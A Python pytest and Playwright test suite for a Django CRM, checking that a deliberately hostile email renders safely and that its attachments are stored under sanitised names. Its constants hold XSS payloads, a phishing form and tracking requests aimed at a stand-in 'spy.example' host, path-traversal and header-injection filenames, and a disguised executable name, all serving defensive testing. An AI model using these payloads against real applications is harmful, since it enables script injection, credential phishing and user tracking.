"""A mail that tries everything, opened in a real browser on every page that shows it: nothing of it runs, nothing of it is fetched."""

from email.message import EmailMessage
from email.policy import SMTP

import pytest
from django.urls import reverse

from bandhu.channels import actions
from bandhu.channels.models import Mail
from bandhu.channels.tests.post_office import house_account
from bandhu.customers.tests.cast import make_contact
from bandhu.identity.tests.cast import make_team, make_user
from bandhu.inbox.tests.cast import everything
from bandhu.platform.models import StoredFile
from bandhu.privacy.purposes import ensure_purposes
from tests.journeys.people import page_of

pytestmark = [pytest.mark.journey, pytest.mark.django_db(transaction=True)]
RUNS = "parent.ran=1;window.ran=1;top.ran=1"
TAG = f'"><img src=x onerror="{RUNS}"><script>{RUNS}</script>'
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUNS}"><script>{RUNS}</script></svg>'.encode()
CALENDAR = (
    "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:evil@example.org\r\nDTSTAMP:20261122T100000Z\r\n"
    f"DTSTART:20271122T100000Z\r\nSUMMARY:{TAG}\r\nLOCATION:javascript:{RUNS}\r\nDESCRIPTION:{TAG}\r\nURL:javascript:{RUNS}\r\n"
    "ORGANIZER:mailto:evil@example.org\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
).encode()
HTML = f"""<html><head><meta http-equiv="refresh" content="0;url=https://spy.example/"><base href="https://spy.example/">
<style>@import url(https://spy.example/a.css); body {{ background: url(https://spy.example/b.png) }}</style></head>
<body onload="{RUNS}"><p>Read me.</p><script>{RUNS}</script><img src="https://spy.example/p.gif" onerror="{RUNS}">
<a href="javascript:{RUNS}">one</a><a href="&#x6a;avascript:{RUNS}">two</a><a href="data:text/html,<script>{RUNS}</script>">three</a>
<iframe src="https://spy.example/"></iframe><iframe srcdoc="<script>{RUNS}</script>"></iframe><object data="data:text/html,x"></object>
<svg><a xlink:href="javascript:{RUNS}"><text>four</text></a><animate onbegin="{RUNS}" attributeName="x" dur="1s"/></svg>
<math><mtext></form><form><mglyph><style></math><img src=x onerror="{RUNS}">
<form action="https://spy.example/" method="post"><input name="password"><button formaction="javascript:{RUNS}">Sign in</button></form>
<div style="position:fixed;inset:0;background:url(https://spy.example/c.png)">cover</div><video src="https://spy.example/v" autoplay></video>
<noscript><p title="</noscript><img src=x onerror={RUNS}>"></noscript></body></html>"""
# Invisible letters, places outside, ends that lie: (name as it came, name as it is kept).
NAMES = [
    "\u200b.htaccess",
    "../../etc/passwd",
    "..\\..\\boot.ini",
    f"{TAG}.html",
    "bill\u202efdp.exe",
    "a\r\nSet-Cookie: x=1.txt",
    "x" * 400 + ".pdf",
    "con.txt",
    "page.svg",
]


def hostile() -> bytes:
    mail = EmailMessage()
    mail["From"] = f'"{TAG.replace(chr(34), chr(39))}" <rahima@example.org>'
    mail["To"], mail["Subject"], mail["Message-ID"] = (
        "office@example.com",
        f"Hello {TAG}",
        "<evil@example.org>",
    )
    mail.set_content(f"Read me. {TAG} javascript:{RUNS}")
    mail.add_alternative(HTML, subtype="html")
    mail.add_attachment(CALENDAR, maintype="text", subtype="calendar", filename="invite.ics")
    for name in NAMES:
        clean = name.replace("\r", "").replace("\n", "")
        kind = ("image", "svg+xml") if name.endswith(".svg") else ("text", "html")
        mail.add_attachment(SVG, maintype=kind[0], subtype=kind[1], filename=clean)
    return mail.as_bytes(policy=SMTP)


def test_nothing_of_it_runs_anywhere(browser, live_server, settings):
    settings.PUBLIC_URL = live_server.url
    ensure_purposes()
    team = make_team("Dhaka")
    everything(team)
    rupa = make_user("Rupa Das", role="administrator", team=team)
    rahima = make_contact("Rahima Khatun", by=rupa, mails=["rahima@example.org"], team=team, owner=rupa)
    office = house_account(rupa, imap_host="mail.example.invalid", team=team)
    mail = actions.receive_mail(office, hostile())
    assert mail is not None and mail.inbox_message is not None

    page = page_of(browser, live_server, rupa)
    asked, alarms = [], []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: (alarms.append(dialog.message), dialog.dismiss()))
    pages = [
        reverse("channels:mails"),
        reverse("channels:mail", args=[mail.pk]),
        reverse("channels:mail_page", args=[mail.pk]),
        reverse("inbox:inbox") + "?view=open",
        reverse("inbox:conversation", args=[mail.inbox_message.conversation_id]),
        reverse("inbox:body", args=[mail.inbox_message_id]),
        reverse("customers:contact", args=[rahima.pk]),
        "/search/?q=Hello",
        "/",
    ]
    for address in pages:
        page.goto(live_server.url + address, wait_until="load")
        page.wait_for_timeout(400)
        for frame in page.frames:
            assert frame.evaluate("window.ran === undefined"), (address, frame.url)
            for link in frame.evaluate("[...document.querySelectorAll('a')].map((one) => one.protocol)"):
                assert link in ("http:", "https:", "mailto:", "tel:", ":", ""), (address, link)
        page.mouse.click(700, 450)  # nothing lies over the page
        assert page.url.startswith(live_server.url), "it led away"
    assert alarms == []
    assert [one for one in asked if "spy.example" in one] == []
    page.context.close()


def test_its_files_are_kept_by_ids_and_handed_out_as_what_they_are(client):
    ensure_purposes()
    rupa = make_user("Rupa Das", role="administrator", team=make_team("Dhaka"))
    office = house_account(rupa, imap_host="mail.example.invalid")
    mail = actions.receive_mail(office, hostile())
    files = StoredFile.objects.filter(record_id=mail.pk).exclude(record_kind="mail.source")
    assert files.count() >= len(NAMES)
    client.force_login(rupa)
    for one in files:
        assert not set(one.name) & set("/\\\u200b\u202e\r\n\x00"), repr(one.name)
        assert not one.name.startswith(".") and 0 < len(one.name) <= 255
        answer = client.get(reverse("platform:file", args=[one.pk]))
        assert answer["X-Content-Type-Options"] == "nosniff"
        shown = answer["Content-Disposition"].startswith("inline")
        assert not shown or answer["Content-Type"].split(";")[0] not in ("text/html", "image/svg+xml")
        assert "sandbox" in answer["Content-Security-Policy"] or not shown
        assert "\n" not in answer["Content-Disposition"]
    assert Mail.objects.get(pk=mail.pk).raw
